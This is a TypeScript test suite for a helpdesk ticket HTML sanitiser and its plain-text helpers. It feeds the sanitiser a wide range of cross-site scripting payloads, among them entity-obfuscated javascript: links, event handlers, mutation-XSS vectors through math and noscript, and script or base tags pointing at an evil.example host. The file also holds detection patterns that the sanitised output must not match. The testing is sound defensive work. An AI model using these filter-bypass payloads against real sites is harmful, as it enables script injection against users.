import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { plainSubject, plainText, PLAIN_TEXT_MAX, sanitizeTicketHtml, sanitizeTicketWrite, SUBJECT_MAX } from './sanitize-html.ts';

const REL = 'rel="noopener noreferrer nofollow"';

/** What must never be in sanitised output: executable elements, handlers, dangerous URLs, styles. */
function assertHarmless(out: string): void {
  expect(out).not.toMatch(
    /<\s*\/?\s*(script|style|iframe|object|embed|svg|math|form|input|button|textarea|meta|base|link|frame|frameset|template|noscript|xmp)\b/i,
  );
  expect(out).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
  expect(out).not.toMatch(/<[^>]*\s(style|class|id|srcdoc|srcset|formaction|action|background|xlink:href)\s*=/i);
  for (const m of out.matchAll(/\s(?:href|src)="([^"]*)"/gi)) {
    expect(m[1]).toMatch(/^(https?:\/\/|mailto:|cid:|data:image\/(png|jpe?g|gif|webp|bmp);base64,)/i);
  }
  // Nothing that loads by itself from elsewhere when the copy is opened (tracking pixels).
  for (const m of out.matchAll(/<img\b[^>]*\ssrc="([^"]*)"/gi)) expect(m[1]).toMatch(/^(cid:|data:image\/)/i);
  expect(out).not.toMatch(/<!--/);
}

describe('sanitizeTicketHtml: hostile input', () => {
  it.each<[string, string, string]>([
    ['script element, content and all', '<p>Hi<script>alert(1)</script></p>', '<p>Hi</p>'],
    ['script with odd casing and attributes', '<ScRiPt src="https://evil.example/x.js" >alert(1)</sCrIpT>ok', 'ok'],
    ['unterminated script', 'ok<script>alert(1)', 'ok'],
    ['img with an error handler and a relative src', '<img src=x onerror=alert(1)>', ''],
    ['img keeps an embedded src, loses the handler', '<img src="cid:a.png@01D" onerror="alert(1)" onload=alert(2)>', '<img src="cid:a.png@01D" />'],
    ['tracking pixel (1x1 remote image)', '<p>Thanks<img src="https://t.mailer.example/o/8f3a.gif" width="1" height="1" alt=""></p>', '<p>Thanks</p>'],
    ['remote image of any size', '<img src="https://cdn.example/a.png" alt="screenshot" width="640">after', 'after'],
    ['remote image over http, upper-case scheme', '<IMG SRC="HTTP://cdn.example/a.png">after', 'after'],
    ['remote image behind entities and whitespace', '<img src=" &#x68;ttps://t.example/p.gif ">after', 'after'],
    ['protocol-relative image', '<img src="//t.example/p.gif">after', 'after'],
    ['remote image in srcset only', '<img srcset="https://t.example/p.gif 1x" src="cid:x">', '<img src="cid:x" />'],
    ['javascript: link', '<a href="javascript:alert(1)">click</a>', '<a>click</a>'],
    ['JaVaScRiPt: link with mixed case', '<a href="JaVaScRiPt:alert(1)">click</a>', '<a>click</a>'],
    ['javascript: hidden behind entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', '<a>x</a>'],
    ['javascript: with hex entities, tab and &colon;', '<a href="&#x6A;ava&#x09;script&colon;alert(1)">x</a>', '<a>x</a>'],
    ['javascript: with leading space and newline', '<a href=" \n java\nscript:alert(1)">x</a>', '<a>x</a>'],
    ['javascript: with a NUL in the scheme', '<a href="java\u0000script:alert(1)">x</a>', '<a>x</a>'],
    ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>', '<a>x</a>'],
    ['data:text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a>x</a>'],
    ['data:text/html image', '<img src="data:text/html,<script>alert(1)</script>">', ''],
    ['SVG data image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', ''],
    ['protocol-relative link', '<a href="//evil.example/">x</a>', '<a>x</a>'],
    ['svg with onload', '<svg onload=alert(1)><circle r="1"/></svg>after', 'after'],
    ['svg script', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>after', 'after'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>" src="https://evil.example"></iframe>after', 'after'],
    ['style element', '<style>body{background:url(javascript:alert(1))}</style><p>kept</p>', '<p>kept</p>'],
    ['style attribute', '<div style="background:url(javascript:alert(1));position:fixed">d</div>', '<div>d</div>'],
    ['math mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>after', 'after'],
    ['math mXSS via textarea', '<math><mi><textarea><img src=x onerror=alert(1)></textarea></mi></math>after', 'after'],
    ['noscript title breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>after', 'after'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">x', 'x'],
    ['base and link', '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">x', 'x'],
    ['object and embed', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">x', 'x'],
    ['form controls', '<form action="https://evil.example"><input name=p value=1><button formaction="javascript:alert(1)">Go</button></form>', 'Go'],
    ['comments', '<p>a<!-- <script>alert(1)</script> -->b</p><!--[if IE]><script>alert(1)</script><![endif]-->', '<p>ab</p>'],
    ['event handlers on allowed tags', '<p onclick="alert(1)" onmouseover=alert(2)>p</p><td onfocus=x>', '<p>p</p><td></td>'],
    ['id, class and name (clobbering, spoofing)', '<div id="login" class="btn" name="x">d</div>', '<div>d</div>'],
    ['escaped markup stays text', '&lt;script&gt;alert(1)&lt;/script&gt;', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    [
      'attribute breakout attempt',
      '<a href="https://ok.example/" title=\'"><script>alert(1)</script>\'>x</a>',
      `<a href="https://ok.example/" ${REL} title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>`,
    ],
    ['nested unclosed formatting', '<p><b>bold <i>both', '<p><b>bold <i>both</i></b></p>'],
    ['stray closing tags (a stray </p> is an empty paragraph, as in browsers)', '</div></p>text</b>', '<p></p>text'],
    ['tag cut off at the end', '<p>x</p><script', '<p>x</p>script'],
    ['template', '<template><img src=x onerror=alert(1)></template>x', 'x'],
  ])('%s', (_name, input, expected) => {
    const out = sanitizeTicketHtml(input);
    expect(out).toBe(expected);
    assertHarmless(out);
    expect(sanitizeTicketHtml(out)).toBe(out);
  });
});

describe('sanitizeTicketHtml: helpdesk formatting survives', () => {
  it.each<[string, string, string?]>([
    ['paragraphs and line breaks', '<p>Line one<br>Line two</p><div>Block</div>', '<p>Line one<br />Line two</p><div>Block</div>'],
    ['inline emphasis', '<strong>s</strong><b>b</b><em>e</em><i>i</i><u>u</u><s>x</s><span>sp</span><sub>2</sub><sup>3</sup>'],
    ['lists', '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>'],
    ['quotes and code', '<blockquote><p>quoted</p></blockquote><pre><code>if (a &lt; b) { x(); }</code></pre>'],
    ['headings', '<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6><hr />'],
    ['tables', '<table><thead><tr><th>h</th></tr></thead><tbody><tr><td colspan="2" rowspan="1">c</td></tr></tbody></table>'],
    ['https link gets rel', '<a href="https://example.com/kb?a=1&amp;b=2">KB</a>', `<a href="https://example.com/kb?a=1&amp;b=2" ${REL}>KB</a>`],
    [
      'http and mailto links',
      '<a href="http://example.com">h</a> <a href="mailto:help@example.com">m</a>',
      `<a href="http://example.com" ${REL}>h</a> <a href="mailto:help@example.com" ${REL}>m</a>`,
    ],
    ['link rel and target replaced', '<a href="https://example.com" target="_blank" rel="opener">x</a>', `<a href="https://example.com" ${REL}>x</a>`],
    [
      'embedded images: cid and raster data',
      '<img src="cid:image001.png@01D" alt="A" width="120" height="40%" /><img src="data:image/png;base64,iVBORw0KGgo=" alt="p" />',
    ],
    ['bad image dimensions dropped', '<img src="cid:a.png@01D" width="100px;x" height="10" />', '<img src="cid:a.png@01D" height="10" />'],
    ['plain text', "Since Monday my VPN disconnects every 5-10 minutes, isn't that odd?"],
    ['Freshservice plain-text wrapping', '<div>Carla joins Sales on the 1st &amp; needs a licence.</div>'],
    ['ampersands and angle brackets in text', 'a &amp; b &lt; c &gt; d', 'a &amp; b &lt; c &gt; d'],
    ['unicode', '<p>Grüße — 日本語 — 🎉</p>'],
    ['empty', '', ''],
    [
      'a table left inside a paragraph by a dropped element',
      '<p><java\tscript:<script>alert(1)</script><table><td>',
      '<p>alert(1)</p><table><td></td></table><p></p>',
    ],
  ])('%s', (_name, input, expected = input) => {
    const out = sanitizeTicketHtml(input);
    expect(out).toBe(expected);
    assertHarmless(out);
  });
});

describe('sanitizeTicketHtml: properties', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">j</a>',
    '<svg onload=alert(1)>',
    '<math><mtext>',
    '<iframe srcdoc="<b>">',
    '<style>*{}</style>',
    '<!--',
    '-->',
    '"',
    "'",
    '<',
    '>',
    '&',
    '&#x6A;',
    '</p>',
    '<p>',
    '<b>',
    '</b>',
    '<a href="https://ok.example">',
    '</a>',
    '<img src="https://ok.example/i.png"',
    '<img src="cid:i.png@01"',
    ' onerror=alert(1)',
    '<noscript>',
    '</noscript>',
    '<textarea>',
    '</textarea>',
    '<table><td>',
    'text',
    ' ',
    '<div style="x">',
    '<title>',
    '<select><option>',
    '<xmp>',
    '</xmp>',
    '\u0000',
    'java\tscript:',
    '<a href="',
    '">',
  ];
  const soup = fc.array(fc.constantFrom(...hostile), { maxLength: 25 }).map((parts) => parts.join(''));

  it('no executable markup survives any mix of hostile fragments, and the result is stable', () => {
    fc.assert(
      fc.property(soup, (html) => {
        const out = sanitizeTicketHtml(html);
        assertHarmless(out);
        expect(sanitizeTicketHtml(out)).toBe(out);
      }),
      { numRuns: 2000 },
    );
  });

  it('arbitrary strings never produce a tag outside the allowlist', () => {
    const allowed = new Set([
      'p',
      'div',
      'br',
      'hr',
      'span',
      'strong',
      'b',
      'em',
      'i',
      'u',
      's',
      'strike',
      'sub',
      'sup',
      'ul',
      'ol',
      'li',
      'blockquote',
      'pre',
      'code',
      'h1',
      'h2',
      'h3',
      'h4',
      'h5',
      'h6',
      'table',
      'caption',
      'thead',
      'tbody',
      'tfoot',
      'tr',
      'th',
      'td',
      'a',
      'img',
    ]);
    fc.assert(
      fc.property(
        fc.string({
          unit: fc.constantFrom('<', '>', '/', '"', "'", '=', ' ', 'a', 'p', 'img', 'script', 'svg', 'on', 'src', 'href', 'x', ':', '&', '#', ';', '!', '-'),
        }),
        (html) => {
          const out = sanitizeTicketHtml(html);
          for (const m of out.matchAll(/<\/?([a-zA-Z][^\s/>]*)/g)) expect(allowed.has(m[1]!.toLowerCase())).toBe(true);
          assertHarmless(out);
        },
      ),
      { numRuns: 2000 },
    );
  });
});

describe('plainText', () => {
  it.each<[string, string, Parameters<typeof plainText>[1]?, string?]>([
    ['ordinary text is untouched', 'Printer on floor 3 jams'],
    ['markup stays literal (the receiving platform escapes it)', '<b>Error</b> <script>alert(1)</script>'],
    ['C0 controls, DEL and C1 controls removed', 'a\u0000b\u0007c\u001bd\u007fe\u0085f', undefined, 'abcdef'],
    ['tabs and newlines kept', 'line 1\n\tline 2\r\n'],
    ['bidi overrides removed', 'invoice\u202Egpj.exe\u2066x\u2069', undefined, 'invoicegpj.exex'],
    ['lone surrogates replaced', 'a\ud800b', undefined, 'a\ufffdb'],
    ['single line', 'first\r\n  second\nthird ', { singleLine: true }, 'first second third'],
    ['capped with an ellipsis', 'abcdefghij', { maxLength: 5 }, 'abcd…'],
    ['cap counts characters, not UTF-16 units', '🎉🎉🎉🎉', { maxLength: 3 }, '🎉🎉…'],
    ['at the cap is not cut', 'abcde', { maxLength: 5 }],
  ])('%s', (_name, input, opts, expected = input) => {
    expect(plainText(input, opts)).toBe(expected);
  });

  it('caps at PLAIN_TEXT_MAX by default; subjects at SUBJECT_MAX on one line', () => {
    expect(Array.from(plainText('x'.repeat(PLAIN_TEXT_MAX + 50)))).toHaveLength(PLAIN_TEXT_MAX);
    const subject = plainSubject(`Help\n${'y'.repeat(400)}\u0000`);
    expect(Array.from(subject)).toHaveLength(SUBJECT_MAX);
    expect(subject.startsWith('Help y')).toBe(true);
    expect(subject.endsWith('…')).toBe(true);
  });
});

describe('sanitizeTicketWrite', () => {
  it('sanitises the description, makes the subject and text fields plain, leaves other values alone', () => {
    const out = sanitizeTicketWrite({
      subject: 'Hi\u0000 <b>there</b>\nagain',
      description: '<p onclick=x>d<script>alert(1)</script></p>',
      fields: { status: 2, urgent: true, cf_note: 'a\u0007b', group: null, category: 'Hardware' },
      tags: ['x'],
    });
    expect(out).toEqual({
      subject: 'Hi <b>there</b> again',
      description: '<p>d</p>',
      fields: { status: 2, urgent: true, cf_note: 'ab', group: null, category: 'Hardware' },
      tags: ['x'],
    });
  });

  it('leaves absent parts absent', () => {
    expect(sanitizeTicketWrite({ fields: { status: 4 } })).toEqual({ fields: { status: 4 } });
  });
});
